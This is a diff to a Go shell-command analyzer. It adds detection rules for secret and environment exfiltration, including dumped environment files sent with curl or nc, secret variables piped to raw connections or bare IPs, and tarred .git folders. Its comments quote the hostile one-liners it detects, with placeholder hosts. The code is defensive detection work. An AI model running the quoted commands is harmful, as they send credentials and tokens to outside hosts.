@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"net/netip"
 	"net/url"
 	"path"
 	"slices"
@@ -547,7 +548,9 @@ var gitConfig = lazyre.New(`(^|/)\.git/config$`)
 
 // gitConfigSent judges a network command (argv) that sends a .git/config: as curl's `-d @F`, `-F
 // x=@F`, `-T F`, an scp or rsync operand copied to a host, or on its standard input (`nc H P <
-// .git/config`, redirs): asked, or refused when it is another user's (otherUsers).
+// .git/config`, redirs): asked, or refused when it is another user's (otherUsers). A file an
+// earlier command on the line wrote the environment or a secret variable into (writes), sent
+// the same ways, is judged as that dump or that echo piped (det70).
 func (a *analyzer) gitConfigSent(argv []string, redirs []*syntax.Redirect) {
 	if argv = unwrapRoot(argv); len(argv) == 0 || !network(base(argv[0])) {
 		return
@@ -577,6 +580,21 @@ func (a *analyzer) gitConfigSent(argv []string, redirs []*syntax.Redirect) {
 	for _, f := range sent {
 		if f, _, _ = strings.Cut(f, ";"); gitConfig.MatchString(f) {
 			a.gitConfigTo(f, line)
+			return
+		}
+		switch held := a.archives[a.fileKey(f)]; {
+		case held == "env":
+			// `env > /tmp/e; curl -F f=@/tmp/e URL`, `nc H P < /tmp/e`: the dump sent by
+			// way of a file, as `curl -d "$(env)" URL` sends it (det70)
+			a.add("exfil/env_to_network", "sends a file holding the environment over the network", line, 0.95)
+			return
+		case strings.HasPrefix(held, "secret:"):
+			// `echo "$AWS_SECRET_ACCESS_KEY" > k; curl -F f=@k URL`: as the echo piped (det70)
+			if name == "scp" || name == "rsync" {
+				a.ask("exfil/secret_var", "copies a file holding a secret variable to another host", line, 0.9)
+				return
+			}
+			a.secretPiped(held[len("secret:"):], name, args, line)
 			return
 		}
 	}
@@ -614,4 +632,93 @@ func (a *analyzer) otherUsers(p string) bool {
 		return false
 	}
 	return a.root != h && !strings.HasPrefix(a.root, h+"/")
+}
+
+// secretPiped judges a network command (name, args) that reads on its standard input what an
+// echo or printf of one secret variable printed (`echo "$AWS_SECRET_ACCESS_KEY" | nc H P`,
+// `printf %s "$OPENAI_API_KEY" | curl --data-binary @- URL`; issue 26, det70), as the variable
+// in curl's body is judged (authTarget): a raw connection or a URL to a bare IP address is
+// refused; an https URL of the service that issued the token (tokenIssuers) passes; any other
+// host is asked about, as a reviewer reads where it goes. ssh hands it to a command on a host
+// the user logs in to (`echo "$PASS" | ssh h sudo -S CMD`): the password's use, not its leak.
+// A here-string of the variable (`nc H P <<< "$TOKEN"`, flow.go given) and a file an echo of it
+// was written into (gitConfigSent) are judged the same.
+func (a *analyzer) secretPiped(v, name string, args []string, line string) {
+	if name == "openssl" && first(args) != "s_client" {
+		return // `echo "$PASS" | openssl enc -pass stdin …` encrypts here
+	}
+	switch name {
+	case "nc", "ncat", "netcat", "socat", "telnet", "openssl":
+		if slices.ContainsFunc(args, func(x string) bool { return reLocalHost.MatchString(x) && localURL(x) }) {
+			return // a service on this machine (`echo "$API_TOKEN" | nc localhost 8080`)
+		}
+		a.add("exfil/secret_var", "sends a secret variable over a raw network connection", line, 0.9)
+		return
+	case "ssh", "scp", "sftp", "rsync", "ftp":
+		// ssh hands what it reads to a command on a host the user logs in to (`echo "$PASS" |
+		// ssh h sudo -S …`, a deploy script's here-document); the others send files
+		return
+	}
+	own := issuerHosts(v)
+	n, all := 0, 0 // URLs to a host that did not issue the token; URLs
+	for _, u := range args {
+		if !strings.Contains(u, "://") {
+			continue
+		}
+		p, err := url.Parse(u)
+		if err != nil {
+			continue
+		}
+		all++
+		h := strings.ToLower(p.Hostname())
+		ip, err := netip.ParseAddr(h)
+		switch {
+		case h == "localhost" || err == nil && ip.IsLoopback():
+			continue // a service on this machine
+		case err == nil:
+			a.add("exfil/secret_var", "sends a secret variable to a bare IP address", line, 0.9)
+			return
+		}
+		if p.Scheme != "https" || !slices.Contains(own, h) {
+			n++
+		}
+	}
+	if n > 0 || all == 0 {
+		a.ask("exfil/secret_var", "sends a secret variable to a host that did not issue it", line, 0.9)
+	}
+}
+
+// gitRemoteURL reports whether a git command prints a remote's URL, which may carry a user
+// and token (git-config(1) remote.<name>.url): `git config --get remote.origin.url`, `git
+// remote get-url origin`, `git config remote.origin.url`.
+func gitRemoteURL(name string, args []string) bool {
+	if name != "git" || len(args) < 2 {
+		return false
+	}
+	switch args[0] {
+	case "remote":
+		return args[1] == "get-url"
+	case "config":
+		return slices.ContainsFunc(args[1:], func(x string) bool {
+			return strings.HasPrefix(x, "remote.") && strings.HasSuffix(x, ".url")
+		})
+	}
+	return false
+}
+
+// gitTar reports whether tar's arguments write to its standard output an archive that holds a
+// repository's .git folder (`tar czf - .git`), and with it the .git/config.
+func gitTar(args []string) bool {
+	toStdout, create, git := false, false, false
+	for i, x := range args {
+		switch {
+		case path.Base(path.Clean(x)) == ".git":
+			git = true
+		case x == "-" && i > 0 && strings.HasSuffix(args[i-1], "f"):
+			toStdout = true
+		case strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") || i == 0:
+			create = create || strings.Contains(x, "c")
+		}
+	}
+	return create && git && toStdout
 }
